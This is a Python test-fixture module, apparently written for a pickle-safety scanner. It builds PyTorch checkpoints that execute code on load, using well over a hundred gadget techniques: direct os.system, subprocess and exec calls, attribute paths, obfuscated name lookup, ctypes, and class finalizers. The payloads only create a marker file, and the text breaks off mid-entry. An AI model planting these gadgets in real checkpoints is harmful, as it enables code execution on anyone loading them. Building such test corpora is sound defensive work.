"""Checkpoints that run code when they are loaded, one small file for each way to do it.

Every payload is harmless: it makes a file or folder whose path begins with the marker's. The
table is by technique, so that a judge of pickles can be held to all of them, and
``tests/ckpttool/formats/safety/test_attacks_fire.py`` proves that torch.load really runs them.
"""

from __future__ import annotations

import base64
import io
import marshal
import struct
import types
import zipfile
from typing import Callable, NamedTuple

from tests.builders import pickles as p
from tests.builders.torch_files import (
    MAGIC,
    tar_member,
    tar_storages,
    torch_legacy,
    torch_tar,
    torch_zip,
)


class Attack(NamedTuple):
    """A file that acts on whoever loads it.

    ``names`` are dotted names of which a report must name at least one. ``fires`` is the reason
        why this environment cannot fire it.
    """

    technique: str
    what: str
    suffix: str
    data: Callable[[str], bytes]
    names: tuple[str, ...]
    fires: str | None = None


# What a stream says, before the marker's path is known -----------------------------------------


class Op(NamedTuple):
    """Opcodes as they stand."""

    code: bytes


class Name(NamedTuple):
    """GLOBAL of ``module:attribute``."""

    path: str


class Call(NamedTuple):
    """REDUCE."""

    function: object
    arguments: object


class New(NamedTuple):
    """NEWOBJ."""

    kind: object
    arguments: object


class Build(NamedTuple):
    """BUILD."""

    target: object
    state: object


class Then(NamedTuple):
    """Parts one after the other."""

    parts: tuple[object, ...]


def wire(value: object, marker: str) -> bytes:
    """The opcodes that leave ``value`` on the stack, with the marker's path in every text."""

    def part(inner: object) -> bytes:
        return wire(inner, marker)

    if isinstance(value, Op):
        return value.code
    if isinstance(value, Name):
        module, _, attribute = value.path.replace(MARKER, marker).partition(":")
        return p.name(module, attribute)
    if isinstance(value, Call):
        return part(value.function) + part(value.arguments) + b"R"
    if isinstance(value, New):
        return part(value.kind) + part(value.arguments) + b"\x81"
    if isinstance(value, Build):
        return part(value.target) + part(value.state) + b"b"
    if isinstance(value, Late):
        return part(value.make(marker))
    if isinstance(value, Then):
        return b"".join(map(part, value.parts))
    return _plain(value, marker)


def _plain(value: object, marker: str) -> bytes:
    if value is None or isinstance(value, bool):
        return {None: b"N", True: b"\x88", False: b"\x89"}[value]
    if isinstance(value, int):
        return p.integer(value)
    if isinstance(value, str):
        return p.text(value.replace(MARKER, marker))
    if isinstance(value, bytes):
        raw = value.replace(MARKER.encode(), marker.encode())
        return b"B" + struct.pack("<I", len(raw)) + raw
    if isinstance(value, tuple):
        return p.tuple_of(*(wire(item, marker) for item in value))
    if isinstance(value, list):
        return p.list_of(*(wire(item, marker) for item in value))
    assert isinstance(value, dict), value
    return p.dict_of(*((wire(key, marker), wire(item, marker)) for key, item in value.items()))


def call(path: str, *arguments: object) -> Call:
    """A call of ``module:attribute``."""
    return Call(Name(path), arguments)


def new(path: str, *arguments: object) -> New:
    """An instance of ``module:attribute``, made without its ``__init__``."""
    return New(Name(path), arguments)


def partial(path: str, *arguments: object) -> Call:
    """What calls ``module:attribute`` once somebody calls it."""
    return call("functools:partial", Name(path), *arguments)


def namespace(**attributes: object) -> Build:
    """An instance of an innocent class with these attributes."""
    return Build(new("argparse:Namespace"), attributes)


def built(path: str, **attributes: object) -> Build:
    """An instance made without ``__init__`` and given these attributes."""
    return Build(new(path), attributes)


MARKER = "@marker@"
SHELL = f"touch {MARKER}"
ARGV = ["touch", MARKER]
CODE = f"open({MARKER!r}, 'w').close()"
SYSTEM = call("os:system", SHELL)
#: What makes the marker when it is called without arguments, or with up to two of any kind.
ACT = partial("os:system", SHELL)
ACT_ANYHOW = partial("os:makedirs", f"{MARKER}/inner")
WEIGHTS = Op(p.tensor())


# Files around it -------------------------------------------------------------------------------

File = Callable[[str], bytes]


def _with_weights(value: object, marker: str) -> bytes:
    return wire({"w": WEIGHTS, "x": value}, marker)


def in_zip(value: object, protocol: bytes = p.PROTO2) -> File:
    """A checkpoint with one tensor and, beside it, ``value``."""
    return lambda marker: torch_zip(
        members={"data.pkl": protocol + _with_weights(value, marker) + p.STOP}
    )


def whole(value: object) -> File:
    """A checkpoint whose pickle is ``value`` and nothing else."""
    return lambda marker: torch_zip(wire(value, marker))


def bare(value: object, protocol: bytes = p.PROTO2) -> File:
    """A pickle without a container."""
    return lambda marker: protocol + wire(value, marker) + p.STOP


def _attack(
    technique: str,
    what: str,
    data: File,
    names: str,
    *,
    suffix: str = ".pth",
    fires: str | None = None,
) -> Attack:
    return Attack(technique, what, suffix, data, tuple(names.split()), fires)


# Direct: one name, called ----------------------------------------------------------------------

DIRECT = "direct call"

_DIRECT: tuple[tuple[object, ...], ...] = (
    ("os:system", SHELL),
    ("posix:system", SHELL),
    ("os:popen", SHELL),
    ("os:mkdir", MARKER),
    ("os:makedirs", MARKER),
    ("os:mkfifo", MARKER),
    ("os:symlink", "nowhere", MARKER),
    ("os:open", MARKER, 0o101, 0o644),
    ("os:spawnvp", 0, "touch", ARGV),
    ("os:spawnlp", 0, "touch", "touch", MARKER),
    ("os:posix_spawnp", "touch", ARGV, {}),
    ("os:execvp", "touch", ARGV),
    ("posix:mkdir", MARKER),
    ("subprocess:run", ARGV),
    ("subprocess:call", ARGV),
    ("subprocess:check_call", ARGV),
    ("subprocess:check_output", ARGV),
    ("subprocess:Popen", ARGV),
    ("subprocess:getoutput", SHELL),
    ("subprocess:getstatusoutput", SHELL),
    ("builtins:eval", CODE),
    ("builtins:exec", CODE),
    ("builtins:open", MARKER, "w"),
    ("io:open", MARKER, "w"),
    ("_io:open", MARKER, "w"),
    ("_io:FileIO", MARKER, "w"),
    ("_pyio:open", MARKER, "w"),
    ("codecs:open", MARKER, "w"),
    ("runpy:_run_code", call("builtins:compile", CODE, "x", "exec"), {}),
    ("pty:spawn", ARGV),
    ("timeit:timeit", CODE, "pass", Name("time:time"), 1),
    ("timeit:repeat", CODE, "pass", Name("time:time"), 1, 1),
    ("timeit:main", ["-n1", CODE]),
    ("cProfile:run", CODE),
    ("cProfile:runctx", CODE, {}, {}),
    ("profile:run", CODE),
    ("doctest:debug_script", CODE.replace("'", '"'), True),
    ("pydoc:pipepager", "x", SHELL),
    ("pydoc:tempfilepager", "x", f"{SHELL} #"),
    ("shutil:copyfile", "/dev/null", MARKER),
    ("shutil:copytree", ".", MARKER),
    ("shutil:make_archive", MARKER, "tar", "."),
    ("tempfile:mkdtemp", "", MARKER),
    ("tempfile:mkstemp", "", MARKER),
    ("logging:FileHandler", MARKER),
    ("logging.handlers:RotatingFileHandler", MARKER),
    ("logging.handlers:WatchedFileHandler", MARKER),
    (
        "logging.config:dictConfig",
        {"version": 1, "handlers": {"h": {"()": "os.mkdir", "path": MARKER}}},
    ),
    ("sqlite3:connect", MARKER),
    ("_sqlite3:connect", MARKER),
    ("shelve:open", MARKER),
    ("dbm.dumb:open", MARKER, "c"),
    ("zipfile:ZipFile", MARKER, "w"),
    ("tarfile:open", MARKER, "w"),
    ("gzip:open", MARKER, "w"),
    ("gzip:GzipFile", MARKER, "w"),
    ("bz2:open", MARKER, "w"),
    ("bz2:BZ2File", MARKER, "w"),
    ("lzma:open", MARKER, "w"),
    ("lzma:LZMAFile", MARKER, "w"),
    ("wave:open", MARKER, "wb"),
    ("aifc:open", MARKER, "wb"),
    ("sunau:open", MARKER, "wb"),
    ("mailbox:Maildir", MARKER),
    ("mailbox:mbox", MARKER),
    ("mailbox:MH", MARKER),
    ("distutils.file_util:write_file", MARKER, ["x"]),
    ("distutils.dir_util:mkpath", MARKER),
    ("distutils.spawn:spawn", ARGV),
    ("setuptools._distutils.file_util:write_file", MARKER, ["x"]),
    ("setuptools._distutils.dir_util:mkpath", MARKER),
    ("pip._internal.utils.misc:ensure_dir", MARKER),
    ("pip._vendor.pkg_resources:ensure_directory", f"{MARKER}/x"),
    ("pip._vendor.pkg_resources:_bypass_ensure_directory", f"{MARKER}/x"),
    ("venv:create", MARKER),
    ("py_compile:compile", "/dev/null", MARKER),
    ("uuid:_get_command_stdout", "touch", MARKER),
    ("_osx_support:_read_output", SHELL),
    ("multiprocessing.util:spawnv_passfds", b"/usr/bin/touch", ARGV, []),
    ("asyncio:run", call("asyncio:create_subprocess_exec", *ARGV)),
    ("imaplib:IMAP4_stream", SHELL),
    ("operator:call", Name("os:system"), SHELL),
    ("_operator:call", Name("os:system"), SHELL),
    ("functools:reduce", Name("os:mkdir"), [MARKER, 0o755]),
    ("_thread:start_new_thread", Name("os:mkdir"), (MARKER,)),
    ("typing:get_type_hints", namespace(__annotations__={"a": CODE})),
    ("copy:_reconstruct", 1, None, Name("os:system"), (SHELL,)),
    ("types:new_class", "X", (), None, partial("builtins:exec", CODE)),
    ("_xxsubinterpreters:run_string", call("_xxsubinterpreters:create"), CODE),
    ("code:interact", "", ACT_ANYHOW),
    ("test.support.script_helper:assert_python_ok", "-c", CODE),
    ("test.support.os_helper:create_empty_file", MARKER),
    ("importlib._bootstrap_external:_write_atomic", MARKER, b"x"),
    ("fsspec:get_mapper", MARKER, False, True),
    ("numpy:save", MARKER, [1]),
    ("numpy:savez", MARKER, [1]),
    ("numpy:savetxt", MARKER, [1]),
    ("numpy:memmap", MARKER, "b", "w+", 0, (4,)),
    ("numpy.lib.format:open_memmap", MARKER, "w+", "b", (4,)),
    ("numpy.testing._private.utils:runstring", CODE, {}),
    ("numpy.f2py.crackfortran:myeval", CODE),
    ("numpy.f2py.crackfortran:param_eval", CODE, {}, {}),
    ("numpy.f2py.crackfortran:getlincoef", CODE, {}),
    ("numpy.f2py.crackfortran:_eval_length", CODE, {}),
    ("numpy:fromfunction", ACT_ANYHOW, (1,)),
    ("numpy:apply_along_axis", ACT_ANYHOW, 0, [1]),
    ("networkx:write_edgelist", call("networkx:path_graph", 2), MARKER),
    ("torch:save", [1], MARKER),
    ("torch.serialization:save", [1], MARKER),
    ("torch.utils.collect_env:run", SHELL),
    ("torch.utils.collect_env:run_and_read_all", Name("torch.utils.collect_env:run"), SHELL),
    ("torch._inductor.cpp_builder:_run_compile_cmd", SHELL, "."),
    ("torch._inductor.cpp_builder:run_compile_cmd", SHELL, "."),
    ("torch.fx.graph_module:_exec_with_source", CODE, {}),
    ("torch.fx.graph_module:_forward_from_src", CODE, {}),
    ("torch.fx.graph_module:reduce_graph_module", {"_code": CODE}, ""),
    ("torch.jit.unsupported_tensor_ops:execWrapper", CODE, {}, {}),
    ("torch.utils.checkpoint:_run_fn_with_dynamo_disabled", Name("os:system"), SHELL),
    ("torch.utils._pytree:tree_map", Name("os:system"), [SHELL]),
    (
        "torch.distributed.elastic.multiprocessing.subprocess_handler:SubprocessHandler",
        "touch",
        (MARKER,),
        {},
        None,
        None,
        0,
        None,
    ),
    ("sympy:sympify", f"__import__('os').mkdir('{MARKER}')"),
    ("sympy.parsing.sympy_parser:parse_expr", f"__import__('os').mkdir('{MARKER}')"),
    ("sympy.parsing.sympy_parser:eval_expr", CODE, {}, {}),
    ("mpmath.libmp.libhyper:exec_", CODE, {}),
    ("safetensors.torch:save_file", {}, MARKER),
    ("safetensors.numpy:save_file", {}, MARKER),
)


# Rows of tables to attacks ---------------------------------------------------------------------


def _calls(
    technique: str, prefix: str, rows: tuple[tuple[object, ...], ...], protocol: bytes = p.PROTO2
) -> tuple[Attack, ...]:
    """Rows are a name and the arguments it is called with."""
    return tuple(
        _attack(
            technique,
            _kebab(f"{prefix} {path}"),
            in_zip(call(str(path), *rest), protocol),
            str(path).replace(":", "."),
        )
        for path, *rest in rows
    )


def _kebab(words: str) -> str:
    words = words.replace(" _", " private ").replace("._", ".private ").replace(":_", ":private ")
    return "-".join("".join(c if c.isalnum() else " " for c in words.lower()).split())


def _values(
    technique: str,
    prefix: str,
    rows: dict[str, tuple[object, str]],
    protocol: bytes = p.PROTO2,
) -> tuple[Attack, ...]:
    """Rows are a value to unpickle beside the weights, and the names to expect."""
    return tuple(
        _attack(technique, f"{prefix}-{what}", in_zip(value, protocol), names)
        for what, (value, names) in rows.items()
    )


def _files(technique: str, prefix: str, rows: dict[str, tuple[File, str]]) -> tuple[Attack, ...]:
    """Rows are whole files, and the names to expect."""
    return tuple(
        _attack(technique, f"{prefix}-{what}", data, names) for what, (data, names) in rows.items()
    )


class Late(NamedTuple):
    """A value that is made of the marker's path."""

    make: Callable[[str], object]


def steps(*parts: object) -> Then:
    """All of them in a tuple, so that each may follow from what the one before did."""
    return Then((Op(b"("), *parts, Op(b"t")))


def item(target: object, key: object, value: object) -> Then:
    """SETITEM."""
    return Then((target, key, value, Op(b"s")))


def append(target: object, value: object) -> Then:
    """APPEND."""
    return Then((target, value, Op(b"a")))


def persistent(*parts: object) -> Then:
    """BINPERSID."""
    return Then((parts, Op(b"Q")))


def inner(value: object) -> Late:
    """A pickle as bytes."""
    return Late(lambda marker: bare(value)(marker))


def class_state(path: str, **attributes: object) -> Build:
    """Attributes set one by one, as the state of slots is, on what a name stands for."""
    return Build(Name(path), (None, attributes))


def exact(path: str, *arguments: object) -> Then:
    """A call of a name spelled by STACK_GLOBAL."""
    module, _, attribute = path.partition(":")
    return Then((module, attribute, Op(b"\x93"), arguments, Op(b"R")))


_COMPILED = call("builtins:compile", CODE, "x", "exec")

_CHAINS: dict[str, tuple[object, str]] = {
    "function-of-code": (
        Call(call("types:FunctionType", _COMPILED, {}), ()),
        "types.FunctionType builtins.compile",
    ),
    "exec-of-code": (call("builtins:exec", _COMPILED), "builtins.exec"),
    "eval-of-code": (call("builtins:eval", _COMPILED), "builtins.eval"),
    "marshalled-code": (
        call(
            "builtins:exec",
            call("marshal:loads", Late(lambda m: marshal.dumps(_code_for(m)))),
        ),
        "marshal.loads builtins.exec",
    ),
    "methodcaller": (
        Call(call("operator:methodcaller", "system", SHELL), (call("builtins:__import__", "os"),)),
        "operator.methodcaller builtins.__import__",
    ),
    "methodcaller-of-import-module": (
        Call(
            call("operator:methodcaller", "system", SHELL),
            (call("importlib:import_module", "os"),),
        ),
        "operator.methodcaller importlib.import_module",
    ),
    "module-from-spec": (
        Call(
            call(
                "builtins:getattr",
                call("importlib.util:module_from_spec", call("importlib.util:find_spec", "posix")),
                "system",
            ),
            (SHELL,),
        ),
        "importlib.util.module_from_spec importlib.util.find_spec",
    ),
    "function-of-the-c-library": (
        Call(call("builtins:getattr", call("ctypes:CDLL", None), "system"), (SHELL.encode(),)),
        "ctypes.CDLL",
    ),
    "python-by-ctypes": (
        Call(
            call("builtins:getattr", call("ctypes:PyDLL", None), "PyRun_SimpleString"),
            (CODE.encode(),),
        ),
        "ctypes.PyDLL",
    ),
    "resolve-name": (
        Call(call("pkgutil:resolve_name", "os:system"), (SHELL,)),
        "pkgutil.resolve_name",
    ),
    "resolve-name-in-rot13": (
        Call(call("pkgutil:resolve_name", call("_codecs:encode", "bf:flfgrz", "rot13")), (SHELL,)),
        "pkgutil.resolve_name",
    ),
    "pydoc-locate": (Call(call("pydoc:locate", "os.system"), (SHELL,)), "pydoc.locate"),
    "import-dotted-name": (
        Call(call("torch._utils:_import_dotted_name", "os.system"), (SHELL,)),
        "torch._utils._import_dotted_name",
    ),
    "ufunc-reconstruct": (
        Call(call("numpy.core:_ufunc_reconstruct", "os", "system"), (SHELL,)),
        "numpy.core._ufunc_reconstruct",
    ),
    "partial-called": (Call(ACT, ()), "os.system functools.partial"),
    "rebuilt-partial-called": (
        Call(
            call("multiprocessing.reduction:_rebuild_partial", Name("os:system"), (SHELL,), {}), ()
        ),
        "multiprocessing.reduction._rebuild_partial os.system",
    ),
    "breakpoint-by-environment": (
        steps(
            item(Name("os:environ"), "PYTHONBREAKPOINT", "os.mkdir"),
            call("builtins:breakpoint", MARKER),
        ),
        "builtins.breakpoint os.environ",
    ),
    "iter-with-sentinel": (
        call("builtins:list", call("builtins:iter", partial("os:mkdir", MARKER), None)),
        "builtins.iter os.mkdir",
    ),
    "any-of-map": (
        call("builtins:any", call("builtins:map", Name("os:system"), [SHELL])),
        "builtins.map builtins.any os.system",
    ),
    "list-of-filter": (
        call("builtins:list", call("builtins:filter", Name("os:system"), [SHELL])),
        "builtins.filter os.system",
    ),
    "list-of-starmap": (
        call("builtins:list", call("itertools:starmap", Name("os:system"), [(SHELL,)])),
        "itertools.starmap os.system",
    ),
    "list-of-accumulate": (
        call("builtins:list", call("itertools:accumulate", [MARKER, 0o755], Name("os:mkdir"))),
        "itertools.accumulate os.mkdir",
    ),
    "list-of-takewhile": (
        call("builtins:list", call("itertools:takewhile", Name("os:system"), [SHELL])),
        "itertools.takewhile os.system",
    ),
    "deque-of-map": (
        call("collections:deque", call("builtins:map", Name("os:system"), [SHELL])),
        "builtins.map os.system",
    ),
    "weak-callback": (
        call("weakref:ref", call("collections:OrderedDict"), ACT_ANYHOW),
        "weakref.ref os.makedirs",
    ),
    "context-run": (
        Call(
            call("operator:methodcaller", "run", Name("os:system"), SHELL),
            (call("contextvars:Context"),),
        ),
        "operator.methodcaller os.system",
    ),
    "type-with-finalizer": (
        Call(call("builtins:type", "X", (), {"__del__": ACT_ANYHOW}), ()),
        "builtins.type os.makedirs",
    ),
    "numpy-load-of-pickle": (
        call("numpy:load", call("io:BytesIO", inner(SYSTEM)), None, True),
        "numpy.load",
    ),
    "collection-of-a-cycle": (
        steps(SYSTEM, call("gc:collect")),
        "os.system",
    ),
}


def _code_for(marker: str) -> types.CodeType:
    return compile(CODE.replace(MARKER, marker), "x", "exec")


# Attribute paths -------------------------------------------------------------------------------

PATHS = "attribute path"

_LABELS = namespace(labels=[])

_DOTTED: tuple[tuple[object, ...], ...] = (
    ("torch:os.system", SHELL),
    ("torch:serialization.os.system", SHELL),
    ("torch.serialization:os.mkdir", MARKER),
    ("random:_os.system", SHELL),
    ("tempfile:_os.mkdir", MARKER),
    ("shutil:os.system", SHELL),
    ("os.path:os.system", SHELL),
    ("posixpath:genericpath.os.system", SHELL),
    ("logging:os.system", SHELL),
    ("pathlib:Path.touch", call("pathlib:Path", MARKER)),
    ("pathlib:Path.mkdir", call("pathlib:Path", MARKER)),
    ("pathlib:Path.write_text", call("pathlib:Path", MARKER), "x"),
    ("pathlib:Path.write_bytes", call("pathlib:Path", MARKER), b"x"),
    ("pathlib:Path.symlink_to", call("pathlib:Path", MARKER), "nowhere"),
    ("bdb:Bdb.run", call("bdb:Bdb"), CODE),
    ("bdb:Bdb.runeval", call("bdb:Bdb"), CODE),
    ("trace:Trace.run", call("trace:Trace"), CODE),
    ("cProfile:Profile.run", call("cProfile:Profile"), CODE),
    ("idlelib.run:Executive.runcode", namespace(locals={}), CODE),
    ("lib2to3.pgen2.pgen:ParserGenerator.make_label", None, _LABELS, f"'' or {CODE}"),
    ("lib2to3.pgen2.grammar:Grammar.loads", namespace(), inner(SYSTEM)),
    ("torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression", None, CODE, ()),
    ("profile:Profile.run", call("profile:Profile"), CODE),
    ("timeit:Timer.timeit", call("timeit:Timer", CODE), 1),
    ("code:InteractiveInterpreter.runsource", call("code:InteractiveInterpreter"), CODE),
    ("code:InteractiveConsole.push", call("code:InteractiveConsole"), CODE),
    (
        "threading:Thread.run",
        built("threading:Thread", _target=Name("os:system"), _args=(SHELL,), _kwargs={}),
    ),
    ("threading:Timer.start", call("threading:Timer", 0, Name("os:system"), [SHELL])),
    (
        "multiprocessing.process:BaseProcess.run",
        built(
            "multiprocessing.process:BaseProcess",
            _target=Name("os:system"),
            _args=(SHELL,),
            _kwargs={},
        ),
    ),
    (
        "webbrowser:GenericBrowser.open",
        built("webbrowser:GenericBrowser", name="touch", basename="touch", args=["%s"]),
        MARKER,
    ),
    (
        "jinja2:Template.render",
        call("jinja2:Template", f"{{{{ cycler.__init__.__globals__.os.mkdir('{MARKER}') }}}}"),
    ),
    (
        "fsspec.implementations.local:LocalFileSystem.touch",
        call("fsspec.implementations.local:LocalFileSystem"),
        MARKER,
    ),
    ("filelock:FileLock.acquire", call("filelock:FileLock", MARKER)),
    (
        "torch.utils.file_baton:FileBaton.try_acquire",
        call("torch.utils.file_baton:FileBaton", MARKER),
    ),
    ("numpy:ndarray.tofile", call("numpy:zeros", 4), MARKER),
    ("numpy:ndarray.dump", call("numpy:zeros", 4), MARKER),
    ("torch:Tensor.apply_", WEIGHTS, ACT_ANYHOW),
    ("torch:UntypedStorage.from_file", MARKER, True, 4),
    (
        "importlib.machinery:SourceFileLoader.set_data",
        call("importlib.machinery:SourceFileLoader", "x", "y"),
        MARKER,
        b"x",
    ),
    ("builtins:str.format_map", "{x}", call("collections:defaultdict", ACT)),
    ("functools:partial.__call__", ACT),
)

_DOTTED_CHAINS: dict[str, tuple[object, str]] = {
    "globals-of-rebuild": (
        Call(call("torch._utils:_rebuild_tensor_v2.__builtins__.get", "eval"), (CODE,)),
        "torch._utils._rebuild_tensor_v2.__builtins__.get",
    ),
    "builtins-of-module": (
        Call(call("torch._utils:__builtins__.get", "exec"), (CODE,)),
        "torch._utils.__builtins__.get",
    ),
    "dictionary-of-module": (
        Call(call("os:__dict__.get", "system"), (SHELL,)),
        "os.__dict__.get",
    ),
    "stack-global-dotted": (
        exact("torch:serialization.os.system", SHELL),
        "torch.serialization.os.system",
    ),
    "stack-global-alias": (exact("random:_os.system", SHELL), "random._os.system"),
    "getattribute-of-module": (
        Call(call("types:ModuleType.__getattribute__", Name("torch:os"), "system"), (SHELL,)),
        "types.ModuleType.__getattribute__",
    ),
    "unbound-dict-get": (
        Call(call("builtins:dict.get", Name("os:__dict__"), "system"), (SHELL,)),
        "os.__dict__ builtins.dict.get",
    ),
}

_GETATTR: dict[str, tuple[object, str]] = {
    "getattr": (
        Call(call("builtins:getattr", Name("torch:os"), "system"), (SHELL,)),
        "torch.os.system",
    ),
    "getattr-twice": (
        Call(
            call(
                "builtins:getattr",
                call("builtins:getattr", Name("torch:serialization"), "os"),
                "system",
            ),
            (SHELL,),
        ),
        "torch.serialization.os.system",
    ),
    "attrgetter": (
        Call(
            Call(call("operator:attrgetter", "os.system"), (Name("torch:serialization"),)), (SHELL,)
        ),
        "operator.attrgetter",
    ),
    "getattr-static": (
        Call(call("inspect:getattr_static", Name("torch:os"), "system"), (SHELL,)),
        "inspect.getattr_static",
    ),
    "vars-and-getitem": (
        Call(call("operator:getitem", call("builtins:vars", Name("torch:os")), "system"), (SHELL,)),
        "builtins.vars operator.getitem",
    ),
    "itemgetter": (
        Call(Call(call("operator:itemgetter", "system"), (Name("os:__dict__"),)), (SHELL,)),
        "os.__dict__ operator.itemgetter",
    ),
    "reduce-of-getattr": (
        Call(
            call(
                "functools:reduce",
                Name("builtins:getattr"),
                [Name("torch:serialization"), "os", "system"],
            ),
            (SHELL,),
        ),
        "functools.reduce builtins.getattr",
    ),
}


def _protocol_0(head: str) -> File:
    """A pickle of lines: what ``head`` leaves is called with the command."""
    return lambda marker: (head + f"(V{SHELL}\ntR.").replace(MARKER, marker).encode()


_LINES: dict[str, tuple[File, str]] = {
    "getattr": (
        _protocol_0("c__builtin__\ngetattr\n(ctorch\nos\nVsystem\ntR"),
        "torch.os.system",
    ),
    "attrgetter": (
        _protocol_0("coperator\nattrgetter\n(Vos.system\ntR(ctorch\nserialization\ntR"),
        "operator.attrgetter",
    ),
    "apply": (_protocol_0("coperator\ncall\n(cos\nsystem\ntp0\n0cos\nsystem\n"), "os.system"),
}

# Re-exports ------------------------------------------------------------------------------------

REEXPORT = "re-export"

_REEXPORTS: tuple[tuple[object, ...], ...] = (
    ("pip._vendor.pkg_resources:mkdir", MARKER),
    ("pip._vendor.pkg_resources:os_open", MARKER, 0o101, 0o644),
    ("pip._vendor.six:exec_", CODE),
    ("pip._vendor.urllib3.packages.six:exec_", CODE),
    ("pip._vendor.pyproject_hooks._impl:check_call", ARGV),
    ("pip._vendor.pyproject_hooks._impl:check_output", ARGV),
    ("mpmath.ctx_mp_python:exec_", CODE),
    ("mpmath.libmp.backend:exec_", CODE),
    ("sympy.printing.preview:check_output", ARGV),
    ("sympy.utilities.autowrap:check_output", ARGV),
    ("ctypes._aix:Popen", ARGV),
    (
        "torch.distributed.elastic.multiprocessing.subprocess_handler.subprocess_handler:Popen",
        ARGV,
    ),
    ("tokenize:_builtin_open", MARKER, "w"),
    ("tarfile:bltn_open", MARKER, "w"),
    ("bz2:_builtin_open", MARKER, "w"),
    ("numpy.distutils.cpuinfo:getstatusoutput", SHELL),
    ("numpy.distutils.exec_command:exec_command", SHELL),
    ("numpy.lib._npyio_impl:savetxt", MARKER, [1]),
    ("numpy._core.memmap:memmap", MARKER, "b", "w+", 0, (4,)),
    ("_functools:reduce", Name("os:mkdir"), [MARKER, 0o755]),
)

# Classes that act by themselves ----------------------------------------------------------------

GADGET = "gadget by class"

#: Classes whose finalizer calls ``close``, wherever it comes from.
_CLOSERS = (
    "io:IOBase",
    "io:RawIOBase",
    "_io:_IOBase",
    "_pyio:IOBase",
    "tempfile:_TemporaryFileCloser",
    "zipfile:ZipFile",
    "fileinput:FileInput",
    "aifc:Aifc_write",
    "wave:Wave_read",
    "wave:Wave_write",
    "telnetlib:Telnet",
    "urllib.request:URLopener",
    "multiprocessing.shared_memory:SharedMemory",
    "numpy.lib.npyio:NpzFile",
)

_HELD = namespace(close=ACT)

_FINALIZED: dict[str, tuple[object, str]] = {
    "field-storage": (built("cgi:FieldStorage", file=_HELD), "cgi.FieldStorage os.system"),
    "ftp-file-system": (
        built("fsspec.implementations.ftp:FTPFileSystem", ftp=_HELD),
        "fsspec.implementations.ftp.FTPFileSystem os.system",
    ),
    "closer-of-a-file": (
        built("tempfile:_TemporaryFileCloser", file=_HELD, close_called=False, delete=False),
        "tempfile._TemporaryFileCloser os.system",
    ),
    "tar-stream": (
        built("tarfile:_Stream", closed=False, close=ACT),
        "tarfile._Stream os.system",
    ),
    "spooled-file": (
        built("tempfile:SpooledTemporaryFile", _file=namespace(closed=False), close=ACT),
        "tempfile.SpooledTemporaryFile os.system",
    ),
    "async-file": (
        built("asyncore:file_wrapper", fd=-1, close=ACT),
        "asyncore.file_wrapper os.system",
    ),
    "shelf": (built("shelve:Shelf", writeback=False, close=ACT), "shelve.Shelf os.system"),
    "sunau-writer": (built("sunau:Au_write", _file=1, close=ACT), "sunau.Au_write os.system"),
    "connection": (
        built("multiprocessing.connection:_ConnectionBase", _handle=1, _close=ACT),
        "multiprocessing.connection._ConnectionBase os.system",
    ),
    "event-loop": (
        built("asyncio.base_events:BaseEventLoop", is_closed=ACT),
        "asyncio.base_events.BaseEventLoop os.system",
    ),
    "stream-writer": (
        built("asyncio.streams:StreamWriter", _transport=namespace(is_closing=ACT)),
        "asyncio.streams.StreamWriter os.system",
    ),
    "pipe-transport": (
        built(
            "asyncio.unix_events:_UnixReadPipeTransport",
            _pipe=_HELD,
            _fileno=1,
            _closing=False,
            _loop=None,
        ),
        "asyncio.unix_events._UnixReadPipeTransport os.system",
    ),
    "future": (
        built(
            "asyncio.futures:_PyFuture",
            _Future__log_traceback=True,
            _exception=None,
            _source_traceback=None,
            _loop=namespace(call_exception_handler=ACT_ANYHOW),
        ),
        "asyncio.futures._PyFuture os.makedirs",
    ),
    "pool": (
        built(
            "multiprocessing.pool:Pool",
            _state="RUN",
            _pool=[],
            _change_notifier=namespace(put=ACT_ANYHOW),
        ),
        "multiprocessing.pool.Pool os.makedirs",
    ),
    "asyncio-test-case": (
        built(
            "unittest.async_case:IsolatedAsyncioTestCase",
            _asyncioRunner=1,
            _tearDownAsyncioRunner=ACT,
        ),
        "unittest.async_case.IsolatedAsyncioTestCase os.system",
    ),
    "sanitizer": (
        built("torch.cuda._sanitizer:CUDASanitizer", enabled=True, disable=ACT),
        "torch.cuda._sanitizer.CUDASanitizer os.system",
    ),
    "gds-file": (
        built("torch.cuda.gds:GdsFile", handle=1, fd=-1, deregister_handle=ACT),
        "torch.cuda.gds.GdsFile os.system",
    ),
    "trace-observer": (
        built("torch.profiler.profiler:ExecutionTraceObserver", unregister_callback=ACT),
        "torch.profiler.profiler.ExecutionTraceObserver os.system",
    ),
    # no partial, no call: the finalizer calls the one with the items of the other
    "url-opener": (
        built(
            "urllib.request:URLopener",
            _URLopener__tempfiles=[SHELL],
            _URLopener__unlink=Name("os:system"),
            tempcache=None,
        ),
        "urllib.request.URLopener os.system",
    ),
    # nothing but plain data: the finalizer writes where they say
    "dumb-database": (
        built(
            "dbm.dumb:_Database",
            _index={},
            _modified=True,
            _dirfile=MARKER,
            _bakfile=f"{MARKER}.bak",
            _mode=0o644,
        ),
        "dbm.dumb._Database",
    ),
}

_STATES: dict[str, tuple[object, str]] = {
    # nothing but plain data: the file is made when the state is set
    "mmap-cache": (
        built("fsspec.caching:MMapCache", location=MARKER, size=4, blocks=[]),
        "fsspec.caching.MMapCache",
    ),
    "iter-datapipe": (
        Build(
            new("torch.utils.data.datapipes.datapipe:_IterDataPipeSerializationWrapper"),
            (inner(SYSTEM), False),
        ),
        "torch.utils.data.datapipes.datapipe._IterDataPipeSerializationWrapper",
    ),
    "iter-datapipe-by-keys": (
        Build(
            new("torch.utils.data.datapipes.datapipe:_IterDataPipeSerializationWrapper"),
            Then((Op(b"}("), inner(SYSTEM), 1, False, 1, Op(b"u"))),
        ),
        "torch.utils.data.datapipes.datapipe._IterDataPipeSerializationWrapper",
    ),
    "map-datapipe-by-keys": (
        Build(
            new("torch.utils.data.datapipes.datapipe:_MapDataPipeSerializationWrapper"),
            Then((Op(b"}("), inner(SYSTEM), 1, False, 1, Op(b"u"))),
        ),
        "torch.utils.data.datapipes.datapipe._MapDataPipeSerializationWrapper",
    ),
    "optimizer-defaults": (
        built("torch.optim.optimizer:Optimizer", defaults=namespace(setdefault=ACT_ANYHOW)),
        "os.makedirs",
    ),
    "optimizer-groups": (
        built(
            "torch.optim.sgd:SGD",
            defaults={},
            param_groups=[namespace(setdefault=ACT_ANYHOW)],
        ),
        "os.makedirs",
    ),
    "optimized-module": (
        built(
            "torch._dynamo.eval_frame:OptimizedModule",
            dynamo_ctx=Name("os:system"),
